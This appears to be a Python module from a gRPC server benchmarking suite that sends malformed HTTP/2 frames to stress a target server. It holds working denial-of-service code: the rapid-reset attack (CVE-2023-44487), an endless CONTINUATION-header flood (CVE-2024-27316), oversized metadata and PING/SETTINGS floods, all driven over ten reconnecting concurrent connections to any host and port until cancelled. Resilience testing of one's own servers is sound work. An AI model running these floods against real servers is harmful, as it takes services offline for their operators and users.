"""Attacks below gRPC: frames of HTTP/2 (RFC 9113) that no library sends."""

from __future__ import annotations

import asyncio
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import cache

from benchmarks.serving.half_sent import (
    CANCEL,
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    http2_frame,
    request_headers,
)

CONNECTIONS = 10
FIELD_BYTES = 100  # of one header
FIELDS = 160  # of one frame of headers


def rapid_resets() -> Iterator[bytes]:
    """Yield calls that are reset as soon as they are made (CVE-2023-44487)."""
    headers = request_headers("Detect")
    for stream in range(1, 1 << 31, 2):
        call = http2_frame(HEADERS, END_HEADERS, stream, headers)
        yield call + http2_frame(RST_STREAM, 0, stream, CANCEL)


def endless_headers() -> Iterator[bytes]:
    """Yield one call whose headers never end (CVE-2024-27316)."""
    yield http2_frame(HEADERS, 0, 1, request_headers("Detect"))
    while True:
        yield http2_frame(CONTINUATION, 0, 1, _fields())


def large_metadata() -> Iterator[bytes]:
    """Yield calls with 16 KB of headers each."""
    for stream in range(1, 1 << 31, 2):
        yield http2_frame(HEADERS, END_HEADERS, stream, request_headers("Detect") + _fields())


def pings_and_settings() -> Iterator[bytes]:
    """Yield frames that each want an answer."""
    while True:
        yield http2_frame(PING, 0, 0, bytes(8)) + http2_frame(SETTINGS, 0, 0, b"")


async def sent(host: str, port: int, make: Callable[[], Iterator[bytes]]) -> None:
    """Send frames as fast as they are taken on some connections, anew where the server hangs up, until cancelled."""
    await asyncio.gather(*(_again(host, port, make) for _ in range(CONNECTIONS)))


async def _again(host: str, port: int, make: Callable[[], Iterator[bytes]]) -> None:
    while True:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection(host, port)
            reading = asyncio.create_task(_read_all(reader))
            try:
                writer.write(PREFACE + http2_frame(SETTINGS, 0, 0, b""))
                for frames in make():
                    writer.write(frames)
                    await writer.drain()
                    if reading.done():
                        break
            finally:
                reading.cancel()
                writer.transport.abort()
        await asyncio.sleep(0)


async def _read_all(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(1 << 16):
            pass


@cache
def _fields() -> bytes:
    """Return headers, each of its own name, as HPACK literals (RFC 7541)."""
    value = bytes([FIELD_BYTES - 12]) + b"v" * (FIELD_BYTES - 12)
    return b"".join(b"\x00\x08x-%06d" % number + value for number in range(FIELDS))
